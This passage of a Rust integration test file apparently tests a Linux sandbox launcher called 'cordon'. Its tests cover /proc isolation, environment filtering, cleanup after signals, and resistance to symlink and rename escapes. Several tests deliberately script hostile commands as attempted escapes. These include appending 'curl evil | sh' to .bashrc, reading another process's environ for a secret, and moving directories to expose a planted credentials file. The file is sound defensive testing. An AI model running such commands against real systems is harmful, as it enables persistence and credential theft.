/// (the launcher passed it on and the helper dropped it), MALLOC_CONF and
/// LD_BIND_NOW on the launcher's only.
#[test]
fn injection_variables_agree_between_layers() {
    let ws = workspace();
    let w = ws.path().to_str().unwrap();
    for name in ["CLASSPATH", "MALLOC_CONF", "LD_BIND_NOW"] {
        let set = format!("{name}=cordon-test-value");
        let out = run(&["run", "--workspace", w, "--env", &set, "--", "true"]);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(125), "{name}: {err}");
        assert!(
            err.contains(&format!("--allow-env-injection {name}")),
            "{name}: {err}"
        );
        // Control: allowed by name, it passes both layers unchanged.
        let script = format!("printf %s \"${name}\"");
        let (v, code) = json_run(
            ws.path(),
            &["--env", &set, "--allow-env-injection", name],
            &["sh", "-c", &script],
        );
        assert_eq!(code, 0, "{name}: {v}");
        assert_eq!(stdout_of(&v), "cordon-test-value", "{name}: {v}");
        assert_eq!(
            v["enforcement"]["helper_report"]["env_removed"],
            serde_json::json!([]),
            "{name}: {v}"
        );
    }
}

#[test]
fn layers_are_labelled() {
    let ws = workspace();
    let (v, code) = json_run(ws.path(), &["--layers", "outer"], &["true"]);
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["layers"], "outer");
    assert_eq!(v["enforcement"]["landlock"]["applied"], false);
    let (v, code) = json_run(ws.path(), &["--layers", "inner"], &["sh", "-c", "id -u"]);
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["layers"], "inner");
    assert_eq!(v["enforcement"]["namespaces"]["applied"], false);
    assert_eq!(v["enforcement"]["landlock"]["status"], "fully_enforced");
    assert_ne!(
        stdout_of(&v).trim(),
        "0",
        "inner layer as root still drops to an unprivileged uid"
    );
}

fn example(interp: &str, file: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../examples")
        .join(file);
    let out = Command::new(interp)
        .arg(&path)
        .env("CORDON_BIN", cordon_bin())
        .env("CORDON_HELPER", helper())
        .env("CORDON_HELPER_SHA256", helper_sha())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{file}: {}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// exec-json paths are absolute: a relative one was taken from cordon's own
/// working directory, not the request's workspace (a red-team find), so a
/// runtime whose cwd differed granted another directory. Refused, naming
/// the field; the control (the same request made absolute) runs.
#[test]
fn exec_json_refuses_relative_paths() {
    let ws = workspace();
    let sub = ws.path().join("sub");
    std::fs::create_dir(&sub).unwrap();
    if is_root() {
        std::os::unix::fs::chown(&sub, Some(65534), Some(65534)).unwrap();
    }
    let ask = |req: serde_json::Value| {
        let mut child = cmd()
            .arg("exec-json")
            .current_dir(ws.path())
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(req.to_string().as_bytes())
            .unwrap();
        let out = child.wait_with_output().unwrap();
        let v: Value = serde_json::from_slice(&out.stdout).unwrap();
        (v, out.status.code())
    };
    let ws_s = ws.path().to_str().unwrap();
    let (v, code) = ask(serde_json::json!({"command": "true", "workspace": ws_s, "rw": ["sub"]}));
    assert_eq!(code, Some(125), "{v}");
    assert!(
        v["error"]["message"]
            .as_str()
            .unwrap()
            .contains("rw[0]: sub is relative"),
        "{v}"
    );
    let (v, code) = ask(serde_json::json!({"command": "true", "workspace": ".", "rw": []}));
    assert_eq!(code, Some(125), "{v}");
    let (v, code) = ask(
        serde_json::json!({"command": "true", "workspace": ws_s, "rw": [sub.to_str().unwrap()]}),
    );
    assert_eq!(code, Some(0), "control: {v}");
}

#[test]
fn exec_json_python_example() {
    example("/usr/bin/python3", "exec_json.py");
}

#[test]
fn exec_json_node_example() {
    example("/usr/bin/node", "exec_json.js");
}

#[test]
fn early_sigterm_leaves_no_process() {
    // SIGTERM at various points of sandbox setup, including before bwrap's child
    // has armed --die-with-parent.
    let ws = workspace();
    let tmp = tempfile::tempdir().unwrap();
    for (i, delay_ms) in [0u64, 2, 5, 10, 20, 40, 80, 150].iter().enumerate() {
        let marker = format!("1000.{}3{i}", std::process::id());
        let child = run_in(ws.path(), &["sleep", &marker])
            .env("TMPDIR", tmp.path())
            .spawn()
            .unwrap();
        std::thread::sleep(Duration::from_millis(*delay_ms));
        // SAFETY: kill on our own child's pid.
        unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
        let out = child.wait_with_output().unwrap();
        let _ = out;
        std::thread::sleep(Duration::from_millis(100));
        assert!(
            procs_with(&format!("sleep {marker}")).is_empty(),
            "survivor after SIGTERM at {delay_ms} ms"
        );
        assert_eq!(
            std::fs::read_dir(tmp.path()).unwrap().count(),
            0,
            "policy file left (delay {delay_ms} ms)"
        );
    }
}

/// `cordon … | head` must not panic when the reader has gone: the output is
/// dropped and the exit status is the command's own.
#[test]
fn closed_stdout_is_not_a_panic() {
    for args in [&["--help"][..], &["verify", "--help"][..]] {
        let mut child = Command::new(cordon_bin())
            .args(args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // Close the read end before cordon (still exec'ing) can write.
        drop(child.stdout.take());
        let out = child.wait_with_output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!err.contains("panicked"), "{args:?}: {err}");
        assert_eq!(out.status.code(), Some(0), "{args:?}: {err}");
    }
}

/// One check of `cordon doctor --json` output, by name.
fn doctor_check<'a>(v: &'a Value, name: &str) -> &'a Value {
    v["checks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["check"] == name)
        .unwrap_or_else(|| panic!("no {name} check in {v}"))
}

/// `cordon doctor --json` on this host: every check passes, including the
/// helper's own probe run through the verified helper; a tampered hash fails
/// the helper check with a fix.
#[test]
fn doctor_reports_each_layer_with_fixes() {
    let out = cmd().args(["doctor", "--json"]).output().unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["ok"], Value::Bool(true), "{v}");
    let names: Vec<&str> = v["checks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["check"].as_str().unwrap())
        .collect();
    for n in [
        "landlock",
        "seccomp",
        "bwrap",
        "helper",
        "helper probe",
        "/proc strategy",
        "supplementary groups",
    ] {
        assert!(names.contains(&n), "no {n} check in {v}");
    }
    // A caller with an extra group is warned that it reaches the sandbox.
    if is_root() {
        let bin = cordon_bin();
        let (_, out) = GroupCaller::new(42).run(&[bin.to_str().unwrap(), "doctor", "--json"]);
        let v: Value = serde_json::from_str(&out).unwrap();
        let g = doctor_check(&v, "supplementary groups");
        assert_eq!(g["status"], "warn", "{g}");
        assert!(g["detail"].as_str().unwrap().contains("42"), "{g}");
    }
    let bad = cmd()
        .env("CORDON_HELPER_SHA256", "0".repeat(64))
        .args(["doctor", "--json"])
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&bad.stdout).unwrap();
    assert_eq!(v["ok"], Value::Bool(false), "{v}");
    let helper = doctor_check(&v, "helper");
    assert_eq!(helper["status"], "fail", "{helper}");
    assert!(!helper["fix"].as_str().unwrap().is_empty());
}

/// Where a fresh /proc cannot be mounted, cordon binds the host's /proc
/// read-only only after proving isolation, and says it is not degraded. Then
/// a host process of the sandbox's own uid, holding a planted secret, is
/// unreadable and unsignalable from inside; the control reads it from the host.
#[test]
fn proc_refused_falls_back_to_a_proven_read_only_bind() {
    let ws = workspace();
    let dir = tempfile::tempdir().unwrap();
    let fake = dir.path().join("bwrap");
    std::fs::write(
        &fake,
        "#!/bin/sh\nfor a in \"$@\"; do [ \"$a\" = --proc ] && { echo \"bwrap: Can't mount proc on /newroot/proc: Operation not permitted\" >&2; exit 1; }; done\nexec /usr/bin/bwrap \"$@\"\n",
    )
    .unwrap();
    std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    std::fs::set_permissions(
        dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    // The sibling runs as the uid the sandbox will run as.
    let sandbox_uid = std::fs::metadata(ws.path()).unwrap().uid();
    let secret = format!("cordon-sibling-secret-{}", std::process::id());
    let mut sibling = if is_root() {
        let mut c = Command::new("setpriv");
        c.arg(format!("--reuid={sandbox_uid}"))
            .arg(format!("--regid={sandbox_uid}"))
            .args(["--clear-groups", "--", "sleep", "60"]);
        c
    } else {
        let mut c = Command::new("sleep");
        c.arg("60");
        c
    };
    let mut sibling = sibling.env("CORDON_SIBLING", &secret).spawn().unwrap();
    std::thread::sleep(Duration::from_millis(100));
    let pid = sibling.id();
    // Control: from the host the secret is there to be read.
    let host_view = std::fs::read(format!("/proc/{pid}/environ")).unwrap();
    assert!(String::from_utf8_lossy(&host_view).contains(&secret));

    let script = format!(
        "ls /proc/self/fd >/dev/null && echo SELF-FD-OK; tr '\\0' '\\n' < /proc/{pid}/environ 2>/dev/null | grep -F {secret}; kill -0 {pid} 2>/dev/null && echo SIGNALLED; true"
    );
    let out = cmd()
        .env("CORDON_BWRAP", &fake)
        .env("XDG_CACHE_HOME", dir.path())
        .args([
            "run",
            "--json",
            "--workspace",
            ws.path().to_str().unwrap(),
            "--",
            "sh",
            "-c",
            &script,
        ])
        .output()
        .unwrap();
    let _ = sibling.kill();
    let _ = sibling.wait();
    let v: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&out.stderr)));
    assert_eq!(v["exit_code"], 0, "{v}");
    assert_eq!(v["enforcement"]["bind_mounts"]["proc"], "bind_ro", "{v}");
    assert_eq!(v["degraded"], serde_json::json!([]), "{v}");
    let inside = stdout_of(&v);
    assert!(inside.contains("SELF-FD-OK"), "{inside}");
    assert!(
        !inside.contains(&secret),
        "secret read through the bound /proc: {inside}"
    );
    assert!(!inside.contains("SIGNALLED"), "{inside}");
}

/// The probe's check itself fails where isolation is missing: run on the host
/// (no sandbox) against a sibling of our own uid, it reports the leak.
#[test]
fn bind_ro_check_detects_a_readable_sibling() {
    let secret = format!("cordon-check-{}", std::process::id());
    let mut sib = Command::new("sleep")
        .arg("60")
        .env("CORDON_PROBE_SECRET", &secret)
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(100));
    let out = Command::new("/bin/sh")
        .args(["-c", cordon::probe::BIND_RO_CHECK, "sh"])
        .arg(sib.id().to_string())
        .arg(&secret)
        .output()
        .unwrap();
    let _ = sib.kill();
    let _ = sib.wait();
    assert_eq!(out.status.code(), Some(1));
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(said.contains("environment is readable"), "{said}");
    assert!(said.contains("can be signalled"), "{said}");
}

/// bwrap starts before the plan is finished once the probe cache knows the
/// /proc strategy and how many file masks plans needed (the first run probes
/// and starts it afterwards). A plan that needs more masks than bwrap was
/// started with gets a new bwrap (and the count is remembered); spare mask
/// fds reach the helper, which closes them; a plan error after the early
/// start returns the error and leaves no process behind.
#[test]
fn early_launch_matches_the_plan_and_cleans_up() {
    let cache = tempfile::tempdir().unwrap();
    let ws = workspace();
    let run = |extra: &[&str], command: &[&str]| {
        let out = cmd()
            .env("XDG_CACHE_HOME", cache.path())
            .args(["run", "--json", "--workspace"])
            .arg(ws.path())
            .args(extra)
            .arg("--")
            .args(command)
            .output()
            .unwrap();
        let v: Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stdout)));
        (out.status.code(), v)
    };
    let fds = ["sh", "-c", "ls /proc/self/fd | tr '\\n' ' '"];
    let (code, v) = run(&[], &["true"]);
    assert_eq!(code, Some(0), "{v}");
    assert_eq!(v["early_launch"], false, "the first run probes: {v}");

    let (code, v) = run(&[], &fds);
    assert_eq!(code, Some(0), "{v}");
    assert_eq!(v["early_launch"], true, "{v}");
    assert_eq!(stdout_of(&v), "0 1 2 3 ");

    // One more file mask than any plan before: bwrap was started with too
    // few fds, so another one runs the command; the count is remembered.
    let secret = ws.path().join("secret.txt");
    std::fs::write(&secret, "s3cret").unwrap();
    let hide = ["--hide", secret.to_str().unwrap()];
    let cat = ["sh", "-c", "cat secret.txt; echo end"];
    let (code, v) = run(&hide, &cat);
    assert_eq!(code, Some(0), "{v}");
    assert_eq!(v["early_launch"], false, "{v}");
    assert_eq!(stdout_of(&v), "end\n", "{v}");
    let (code, v) = run(&hide, &cat);
    assert_eq!(code, Some(0), "{v}");
    assert_eq!(v["early_launch"], true, "{v}");
    assert_eq!(stdout_of(&v), "end\n", "{v}");

    // Now bwrap starts with a mask fd this plan does not use: the helper
    // closes it with the other inherited fds.
    let (code, v) = run(&[], &fds);
    assert_eq!(code, Some(0), "{v}");
    assert_eq!(v["early_launch"], true, "{v}");
    assert_eq!(stdout_of(&v), "0 1 2 3 ", "{v}");

    // bwrap was started with the helper's fd before the helper was verified:
    // a helper that fails verification (here: a caller's hash it does not
    // have) must never run, and with it not the command. Control: the same
    // run with the right hash writes the file.
    let wrote = ["sh", "-c", "echo ran > ran.txt"];
    let (code, v) = run(&["--helper-sha256", &"0".repeat(64)], &wrote);
    assert_eq!(code, Some(125), "{v}");
    assert!(
        v["error"]["message"].as_str().unwrap().contains("SHA-256"),
        "{v}"
    );
    assert!(!ws.path().join("ran.txt").exists());
    let (code, v) = run(&["--helper-sha256", &helper_sha()], &wrote);
    assert_eq!(code, Some(0), "{v}");
    assert_eq!(v["early_launch"], true, "{v}");
    assert!(ws.path().join("ran.txt").exists());

    // The plan fails after bwrap started: the error comes back, nothing stays.
    let marker = format!("early-{}", std::process::id());
    let (code, v) = run(&["--rw", "/etc"], &["sh", "-c", "true", &marker]);
    assert_eq!(code, Some(125), "{v}");
    assert_eq!(v["ok"], false, "{v}");
    assert!(
        v["error"]["message"].as_str().unwrap().contains("/etc"),
        "{v}"
    );
    assert!(procs_with(&marker).is_empty());
}

/// When cordon returns, nothing of the sandbox runs any more: a background
/// process the command left behind is gone at once (no grace period), and
/// never writes to the workspace later. (cordon does not wait for the
/// sandbox's init to finish tearing down its namespaces when that init has no
/// child left; here it has one, so it must.)
#[test]
fn nothing_of_the_sandbox_runs_after_return() {
    let ws = workspace();
    // A sleep duration unique to this test process (~0.1–0.9 s), to find it.
    let marker = format!("0.{}7", std::process::id());
    for _ in 0..5 {
        let (v, code) = json_run(
            ws.path(),
            &[],
            &[
                "sh",
                "-c",
                &format!("(sleep {marker}; echo late > late) & echo started"),
            ],
        );
        assert_eq!(code, 0, "{v}");
        assert_eq!(stdout_of(&v), "started\n");
        assert!(
            procs_with(&format!("sleep {marker}")).is_empty(),
            "a sandbox process outlived cordon"
        );
    }
    std::thread::sleep(Duration::from_millis(1000));
    assert!(!ws.path().join("late").exists());

    // Control: without cordon the same script does write the file later.
    let plain = tempfile::tempdir().unwrap();
    let st = Command::new("sh")
        .args([
            "-c",
            &format!("(sleep {marker}; echo late > late) & echo started"),
        ])
        .current_dir(plain.path())
        .stdout(Stdio::null())
        .status()
        .unwrap();
    assert!(st.success());
    std::thread::sleep(Duration::from_millis(1500));
    assert!(plain.path().join("late").exists(), "control did not write");
}

/// All output is read before cordon returns, also when it stops waiting for
/// the dying sandbox init to close its copies of the pipes: more than a pipe
/// buffer on stdout, and stderr, written just before the command exits.
#[test]
fn output_written_before_exit_is_complete() {
    let ws = workspace();
    for _ in 0..5 {
        let (v, code) = json_run(
            ws.path(),
            &[],
            &[
                "sh",
                "-c",
                "head -c 500000 /dev/zero | tr '\\0' a; echo tail >&2",
            ],
        );
        assert_eq!(code, 0, "{v}");
        assert_eq!(v["stdout"]["bytes"], 500000, "{}", v["stdout"]["bytes"]);
        let out = stdout_of(&v);
        assert_eq!(out.len(), 500000);
        assert!(out.bytes().all(|b| b == b'a'));
        assert_eq!(v["stderr"]["data"], "tail\n", "{v}");
    }
}

/// Bad input found by an audit of the CLI: each gets one `cordon: error:`
/// line and exit 125 (or the documented 126/127), never a panic.
#[test]
fn awkward_input_is_one_line_and_documented() {
    let ws = workspace();
    let w = ws.path().to_str().unwrap();
    let one_line_125 = |args: &[&str]| {
        let out = run(args);
        let err = String::from_utf8_lossy(&out.stderr).into_owned();
        assert_eq!(out.status.code(), Some(125), "{args:?}: {err}");
        assert_eq!(err.lines().count(), 1, "{args:?}: {err}");
        assert!(err.starts_with("cordon: error: "), "{args:?}: {err}");
        err
    };
    // An empty path is not the current directory.
    for flag in ["--rw", "--ro", "--hide", "--cwd", "--cache-root"] {
        let e = one_line_125(&["run", "--workspace", w, flag, "", "--", "true"]);
        assert!(e.contains("empty path"), "{e}");
    }
    one_line_125(&["run", "--workspace", "", "--", "true"]);
    // No subcommand, an unknown one, a number out of range, an invalid uid.
    one_line_125(&[]);
    one_line_125(&["bogus"]);
    let e = one_line_125(&["run", "--timeout", "18446744073709551616", "--", "true"]);
    assert!(e.contains("out of range"), "{e}");
    one_line_125(&["run", "--workspace", w, "--uid", "4294967295", "--", "true"]);
    // A newline in a path stays on the error's one line.
    one_line_125(&["run", "--workspace", "/tmp/cordon\nno-such", "--", "true"]);
    one_line_125(&["doctor", "--bogus"]);
    // Control: a timeout too large to add to a clock is simply never reached.
    let out = run(&[
        "run",
        "--timeout",
        "18446744073709551615",
        "--workspace",
        w,
        "--",
        "true",
    ]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    // --json before the bad option: the error is JSON too.
    let out = run(&["run", "--json", "--timeout", "x", "--", "true"]);
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["ok"], false);
    assert_eq!(v["exit_code"], 125);
}

/// A regular file's contents only: a FIFO config would block forever, a
/// device fill memory.
#[test]
fn config_must_be_a_small_regular_file() {
    let ws = workspace();
    let fifo = ws.path().join("cfg.toml");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: mkfifo with a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    let w = ws.path().to_str().unwrap();
    for cfg in [fifo.to_str().unwrap(), "/dev/zero"] {
        let t = std::time::Instant::now();
        let out = run(&["run", "--config", cfg, "--workspace", w, "--", "true"]);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(125), "{cfg}: {err}");
        assert!(err.contains("not a regular file"), "{err}");
        assert!(t.elapsed() < Duration::from_secs(5));
    }
}

/// Exec failures the plan cannot foresee (a file that is not a program, a
/// missing interpreter) are 126 / 127 launcher errors, not the helper's 74
/// passed off as the command's status.
#[test]
fn exec_failures_inside_are_126_and_127() {
    let ws = workspace();
    let w = ws.path().to_str().unwrap();
    let garbage = ws.path().join("garbage.bin");
    std::fs::write(&garbage, [0x7fu8, b'E', b'L', b'F', 0xff, 0xff, 0, 1, 2, 3]).unwrap();
    let script = ws.path().join("bad-interp.sh");
    std::fs::write(&script, "#!/nonexistent/interpreter\n").unwrap();
    for p in [&garbage, &script] {
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    for (p, code, kind) in [
        (&garbage, 126, "command_not_executable"),
        (&script, 127, "command_not_found"),
    ] {
        let (v, c) = json_run(ws.path(), &[], &[p.to_str().unwrap()]);
        assert_eq!(c, code, "{v}");
        assert_eq!(v["error"]["kind"], kind, "{v}");
    }
    // Control: a command that exits 74 by itself keeps its status.
    let (v, c) = json_run(ws.path(), &[], &["sh", "-c", "exit 74"]);
    assert_eq!((c, &v["exit_code"]), (74, &Value::from(74)), "{v}");
    assert_eq!(v["ok"], true, "{v}");
    let out = run(&["run", "--workspace", w, "--", "sh", "-c", "exit 74"]);
    assert_eq!(out.status.code(), Some(74));
}

/// Output the caller asked for and did not get is an error (EPIPE excepted:
/// that reader chose to stop).
#[test]
fn lost_output_is_an_error() {
    let ws = workspace();
    let full = std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .unwrap();
    let out = cmd()
        .args([
            "run",
            "--json",
            "--workspace",
            ws.path().to_str().unwrap(),
            "--",
            "true",
        ])
        .stdout(full)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{err}");
    assert!(err.contains("cannot write to stdout"), "{err}");
}

/// Before a sandbox exists, SIGTERM ends the launcher at once: an exec-json
/// request still arriving used to hold it until stdin closed.
#[test]
fn signal_before_the_sandbox_ends_the_launcher_at_once() {
    let mut child = cmd()
        .arg("exec-json")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(300));
    // SAFETY: signals our own child.
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let t = std::time::Instant::now();
    loop {
        if let Some(st) = child.try_wait().unwrap() {
            use std::os::unix::process::ExitStatusExt;
            assert_eq!(st.signal(), Some(libc::SIGTERM));
            break;
        }
        assert!(
            t.elapsed() < Duration::from_secs(5),
            "still running after SIGTERM"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    drop(child.stdin.take());
}

/// `--rw` of a file the sandbox uid cannot write is refused before anything
/// runs, as a directory is (as root the sandbox runs as 65534).
#[test]
fn rw_file_not_writable_by_the_sandbox_uid_is_refused() {
    let ws = workspace();
    let f = ws.path().join("notes.txt");
    std::fs::write(&f, "x").unwrap();
    let run_with_mode = |mode: u32| {
        std::fs::set_permissions(&f, std::fs::Permissions::from_mode(mode)).unwrap();
        let w = ws.path().to_str().unwrap();
        run(&[
            "run",
            "--workspace",
            w,
            "--rw",
            f.to_str().unwrap(),
            "--",
            "true",
        ])
        .status
        .code()
    };
    assert_eq!(run_with_mode(0o444), Some(125));
    // Control: writable, it is accepted.
    assert_eq!(run_with_mode(0o666), Some(0));
}

/// A mount moves with its directory: renaming an ordinary directory above a
/// nested mask or read-only bind used to carry the protection away (the
/// host path then held what the command wrote, or the next run found the
/// hidden file "absent" and did not mask it). Those directories are now
/// mount points themselves, which cannot be renamed.
#[test]
fn protections_nested_in_the_workspace_cannot_be_moved_away() {
    let ws = workspace();
    let w = ws.path().to_str().unwrap();
    let mkfile = |rel: &str, content: &str| {
        let p = ws.path().join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, content).unwrap();
        if is_root() {
            let d = p.parent().unwrap();
            std::os::unix::fs::chown(d, Some(65534), Some(65534)).unwrap();
        }
        p
    };
    let secret = mkfile(
        "config/deep/credentials.env",
        "API_TOKEN=cordon-nested-secret\n",
    );
    let policy = mkfile("cfg/policy.txt", "protected=1\n");
    let hide = secret.to_str().unwrap();
    let ro = policy.to_str().unwrap();
    let sh = |script: &str| {
        let out = run(&[
            "run",
            "--workspace",
            w,
            "--hide",
            hide,
            "--ro",
            ro,
            "--",
            "sh",
            "-c",
            script,
        ]);
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
        )
    };
    // The attack: move the parents away, put impostors in their place.
    let (_, out) = sh("mv config config.moved && echo moved-config; \
                       mv config/deep config/deep.moved && echo moved-deep; \
                       mv cfg .cfg.old && echo moved-cfg; \
                       echo protected=0 > cfg/policy.txt 2>/dev/null && echo wrote-policy; \
                       cat config/deep/credentials.env");
    for bad in [
        "moved-config",
        "moved-deep",
        "moved-cfg",
        "wrote-policy",
        "cordon-nested-secret",
    ] {
        assert!(!out.contains(bad), "{bad}: {out}");
    }
    assert_eq!(std::fs::read_to_string(&policy).unwrap(), "protected=1\n");
    assert!(secret.exists());
    // A second run still hides the secret where it is.
    let (_, out) =
        sh("cat config/deep/credentials.env config.moved/deep/credentials.env 2>/dev/null");
    assert!(!out.contains("cordon-nested-secret"), "{out}");
    // Control: without the nested protections the same renames succeed.
    let out = run(&[
        "run",
        "--workspace",
        w,
        "--",
        "sh",
        "-c",
        "mv config config.moved && echo moved-config",
    ]);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("moved-config"),
        "{out:?}"
    );
}

/// The workspace and read-only rules in the helper policy carry the identity the planner
/// saw, so a directory swapped in before bwrap mounts it is refused by the
/// helper (tests/tests/helper_policy_file.rs shows the refusal).
#[test]
fn workspace_and_read_only_rules_carry_their_identity() {
    let ws = workspace();
    let ro = tempfile::tempdir().unwrap();
    std::fs::set_permissions(ro.path(), PermissionsExt::from_mode(0o755)).unwrap();
    let out = run(&[
        "explain",
        "--json",
        "--workspace",
        ws.path().to_str().unwrap(),
        "--ro",
        ro.path().to_str().unwrap(),
        "--",
        "true",
    ]);
    assert_eq!(out.status.code(), Some(0));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    for (path, access) in [
        (ws.path(), "readwriteexecute"),
        (ro.path(), "execute"),
        (Path::new("/usr"), "execute"),
    ] {
        let m = std::fs::metadata(path).unwrap();
        let rule = v["helper_policy"]["filesystem"]["allow"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["path"] == path.to_str().unwrap())
            .cloned()
            .unwrap_or_else(|| panic!("no rule for {}: {v}", path.display()));
        assert_eq!(rule["access"], access, "{v}");
        assert_eq!(
            rule["identity"],
            serde_json::json!([m.dev(), m.ino()]),
            "{v}"
        );
    }
}

/// A command that turns echo off on the caller's terminal and exits leaves
/// it as it found it: the launcher restores the terminal settings.
#[test]
fn terminal_settings_are_restored() {
    use nix::sys::termios::{tcgetattr, tcsetattr, LocalFlags, SetArg};
    let echo_after = |via_cordon: bool| {
        let pty = nix::pty::openpty(None, None).unwrap();
        let mut t = tcgetattr(&pty.slave).unwrap();
        t.local_flags.insert(LocalFlags::ECHO);
        tcsetattr(&pty.slave, SetArg::TCSANOW, &t).unwrap();
        let ws = workspace();
        let mut c = if via_cordon {
            run_in(ws.path(), &[])
        } else {
            Command::new("/usr/bin/env")
        };
        let io = |f: &std::os::fd::OwnedFd| Stdio::from(f.try_clone().unwrap());
        let st = c
            .args(["sh", "-c", "stty -echo"])
            .stdin(io(&pty.slave))
            .stdout(io(&pty.slave))
            .stderr(io(&pty.slave))
            .status()
            .unwrap();
        assert!(st.success(), "{st:?}");
        tcgetattr(&pty.slave)
            .unwrap()
            .local_flags
            .contains(LocalFlags::ECHO)
    };
    // Control: the command really turns echo off.
    assert!(!echo_after(false));
    assert!(echo_after(true));
}

/// Run from the home directory without --workspace, the command cannot
/// rewrite what runs later outside the sandbox (~/.bashrc and the like):
/// the home is mounted read-only. Named with --workspace it is writable.
#[test]
fn home_as_implicit_workspace_is_read_only() {
    let home = workspace();
    let h = home.path().to_str().unwrap();
    let write = |named: bool| {
        let mut c = cmd();
        c.env("HOME", h).current_dir(home.path()).arg("run");
        if named {
            c.args(["--workspace", h]);
        }
        c.args(["--", "sh", "-c", "echo 'curl evil | sh' >> .bashrc"])
            .output()
            .unwrap()
    };
    let out = write(false);
    assert_ne!(out.status.code(), Some(0), "{out:?}");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("home directory"),
        "{out:?}"
    );
    assert!(!home.path().join(".bashrc").exists());
    // Control: named, the same write succeeds.
    let out = write(true);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert!(home.path().join(".bashrc").exists());
}

/// A home reached through a bind mount is still a home (compared by device
/// and inode): run from the bind without --workspace, its start-up files
/// stay read-only. Needs root for the bind mount.
#[test]
fn home_through_a_bind_mount_is_still_read_only() {
    if !is_root() {
        eprintln!("skipped: a bind mount needs root (the unprivileged pass covers the plain home)");
        return;
    }
    let home = workspace();
    let view = workspace();
    let (h, v) = (home.path().to_str().unwrap(), view.path().to_str().unwrap());
    let st = Command::new("mount")
        .args(["--bind", h, v])
        .status()
        .unwrap();
    assert!(st.success());
    let write = || {
        cmd()
            .env("HOME", h)
            .current_dir(view.path())
            .args(["run", "--", "sh", "-c", "echo x >> .profile"])
            .output()
            .unwrap()
    };
    let out = write();
    let _ = Command::new("umount").arg(v).status();
    assert_ne!(out.status.code(), Some(0), "{out:?}");
    assert!(!home.path().join(".profile").exists());
    // Control: through a bind of a directory that is not a home, it works.
    let other = workspace();
    let st = Command::new("mount")
        .args(["--bind", other.path().to_str().unwrap(), v])
        .status()
        .unwrap();
    assert!(st.success());
    let out = write();
    let _ = Command::new("umount").arg(v).status();
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert!(other.path().join(".profile").exists());
}

/// A hidden path reached through a symlink inside the workspace is refused:
/// the command could re-point the link, and the next run would hide the
/// decoy while the real file sits in the workspace under another name. The
/// same for a credential directory kept as a symlink (a dotfiles manager's
/// ~/.ssh) when the home is the workspace.
#[test]
fn hides_through_symlinks_in_the_workspace_are_refused() {
    let ws = workspace();
    let w = ws.path().to_str().unwrap();
    std::fs::create_dir_all(ws.path().join("realconf")).unwrap();
    std::fs::write(ws.path().join("realconf/cred"), "TOPSECRET\n").unwrap();
    std::os::unix::fs::symlink("realconf", ws.path().join("config")).unwrap();
    let hide_and_cat = |hide: &str| {
        let h = ws.path().join(hide);
        run(&[
            "run",
            "--workspace",
            w,
            "--hide",
            h.to_str().unwrap(),
            "--",
            "cat",
            "realconf/cred",
        ])
    };
    let out = hide_and_cat("config/cred");
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{err}");
    assert!(err.contains("symlink") && err.contains("/config"), "{err}");
    // Control: hidden by its real name, it runs and the secret is masked.
    let out = hide_and_cat("realconf/cred");
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert!(!String::from_utf8_lossy(&out.stdout).contains("TOPSECRET"));
    // A credential directory kept as a symlink in a home that is the workspace.
    std::fs::create_dir_all(ws.path().join("dotfiles/ssh")).unwrap();
    std::fs::write(ws.path().join("dotfiles/ssh/id_ed25519"), "PRIVKEY\n").unwrap();
    std::os::unix::fs::symlink("dotfiles/ssh", ws.path().join(".ssh")).unwrap();
    let out = run_in(Path::new(w), &["true"])
        .env("HOME", w)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
